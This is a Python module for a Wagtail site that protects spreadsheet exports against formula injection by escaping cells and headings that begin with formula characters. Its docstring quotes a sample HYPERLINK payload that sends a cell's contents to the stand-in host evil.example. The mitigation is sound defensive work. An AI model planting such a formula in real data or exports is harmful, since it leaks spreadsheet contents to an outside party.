"""CSV and XLSX exports that a spreadsheet cannot run as formulas.

A printed name such as =HYPERLINK("http://evil.example/?"&A1,"x") is data a
learner typed; opened in Excel or Sheets it would be a formula. Every export
view of the site mixes this in (Wagtail's form submissions included).
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """Text that a spreadsheet would read as a formula, made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin(SpreadsheetExportMixin):
    def preprocess_field_value(self, field, value, export_format):
        return neutralise_formula(
            super().preprocess_field_value(field, value, export_format)
        )

    def get_heading(self, queryset, field):
        # Headings can be labels a trainer typed (form builder fields).
        return neutralise_formula(super().get_heading(queryset, field))
